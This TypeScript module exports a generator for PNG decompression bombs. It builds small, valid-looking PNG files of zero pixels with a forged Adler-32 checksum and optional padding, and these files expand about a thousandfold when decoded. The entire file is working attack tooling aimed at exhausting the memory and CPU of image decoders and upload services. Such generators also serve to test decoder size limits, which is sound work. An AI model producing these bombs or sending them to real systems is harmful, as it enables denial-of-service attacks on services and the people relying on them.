import { constants, crc32, deflateRawSync } from 'node:zlib';

const words = (...values: number[]) => {
  const bytes = Buffer.alloc(4 * values.length);
  for (const [i, value] of values.entries()) bytes.writeUInt32BE(value >>> 0, 4 * i);
  return bytes;
};

const chunk = (type: string, content: Uint8Array) => {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), content]);
  return Buffer.concat([words(content.length), body, words(crc32(body))]);
};

const PART = 1024 * 1024;

/** The zlib stream of this many zeros: one part is compressed and repeated, which is much faster. */
function compressedZeros(length: number): Buffer {
  const part = deflateRawSync(Buffer.alloc(PART), { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const rest = deflateRawSync(Buffer.alloc(length % PART), { level: 9 });
  const parts = new Array<Buffer>(Math.floor(length / PART)).fill(part);
  // Adler-32 of zeros: the sum is 1, the sum of the sums their number.
  return Buffer.concat([Buffer.from('78da', 'hex'), ...parts, rest, words((length % 65_521) * 65_536 + 1)]);
}

const COLOURS = { grey: { type: 0, samples: 1 }, rgba: { type: 6, samples: 4 } } as const;

interface Wishes {
  colours?: keyof typeof COLOURS;
  /** Padding. */
  padding?: number;
}

/** A whole PNG, 16 bits a sample and interlaced, whose pixels are all zero: a thousandth of what it takes when opened. */
export function pngBomb(side: number, { colours = 'rgba', padding = 0 }: Wishes = {}): Buffer<ArrayBuffer> {
  const { type, samples } = COLOURS[colours];
  const header = Buffer.concat([words(side, side), Buffer.from([16, type, 0, 0, 1])]);
  const pixels = compressedZeros(side * side * 2 * samples + 2 * side);
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', header),
    chunk('paDd', Buffer.alloc(padding)),
    chunk('IDAT', pixels),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}
